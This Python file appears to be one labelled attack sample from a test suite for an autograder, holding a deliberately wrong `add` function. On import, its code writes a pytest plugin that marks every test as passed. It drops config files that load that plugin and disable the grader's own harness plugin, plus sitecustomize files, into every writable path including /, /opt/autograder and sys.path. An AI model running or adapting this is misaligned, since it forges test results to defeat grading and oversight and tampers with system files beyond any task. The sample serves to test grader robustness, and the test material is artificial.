"""attacks.md #15 - drop conftest.py, pytest.ini, a plugin, sitecustomize.py and usercustomize.py wherever writable.

Appended after the answers, with a wrong `add`: only the honest `scale` may score.
"""

import json
import os
import site
import sys

CONFTEST = '''
import pytest

@pytest.hookimpl(hookwrapper=True)
def pytest_runtest_makereport(item, call):
    outcome = yield
    report = outcome.get_result()
    report.outcome = "passed"
'''
FILES = {
    "conftest.py": CONFTEST,
    "evilplugin.py": CONFTEST,
    "pytest.ini": "[pytest]\naddopts = -p evilplugin -p no:autograder.harness.plugin\n",
    "tox.ini": "[pytest]\naddopts = -p evilplugin\n",
    "setup.cfg": "[tool:pytest]\naddopts = -p evilplugin\n",
    "pyproject.toml": "[tool.pytest.ini_options]\naddopts = '-p evilplugin'\n",
    "sitecustomize.py": "import builtins\nbuiltins.FORGED = True\n",
    "usercustomize.py": "import builtins\nbuiltins.FORGED = True\n",
}
places = {os.getcwd(), os.path.expanduser("~"), "/tmp", "/dev/shm", "/work/scratch", "/work", "/work/public",
          "/opt/autograder", "/", os.path.dirname(os.getcwd()), site.getusersitepackages(), *sys.path}
written = []
for place in sorted(p for p in places if p):
    os.makedirs(place, exist_ok=True) if place == site.getusersitepackages() else None
    for name, text in FILES.items():
        try:
            with open(os.path.join(place, name), "w") as handle:
                handle.write(text)
            written.append(os.path.join(place, name))
        except OSError:
            pass
print("DROPPED " + json.dumps(written))


def add(a, b):
    return a - b
